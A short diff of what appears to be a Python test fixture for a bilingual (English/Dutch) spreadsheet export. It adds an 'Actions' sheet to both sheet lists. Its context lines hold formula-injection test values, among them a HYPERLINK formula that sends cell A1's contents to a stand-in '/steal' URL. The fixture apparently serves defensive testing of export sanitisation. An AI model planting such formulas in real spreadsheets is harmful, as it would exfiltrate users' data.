@@ -28,9 +28,9 @@ HOSTILE_ID = '=HYPERLINK("http://example.com/steal?"&A1,"click")'
 HOSTILE_SEGMENT = "@SUM(A1)"
 
 EN_SHEETS = ["Assumptions", "Customers", "Segments", "Cohorts", "Scenarios", "Model fit",
-             "Data quality", "Functions"]
+             "Data quality", "Actions", "Functions"]
 NL_SHEETS = ["Aannames", "Klanten", "Segmenten", "Cohorten", "Scenario's", "Modelfit",
-             "Datakwaliteit", "Functies"]
+             "Datakwaliteit", "Acties", "Functies"]
 
 
 def hostile_orders() -> pd.DataFrame:
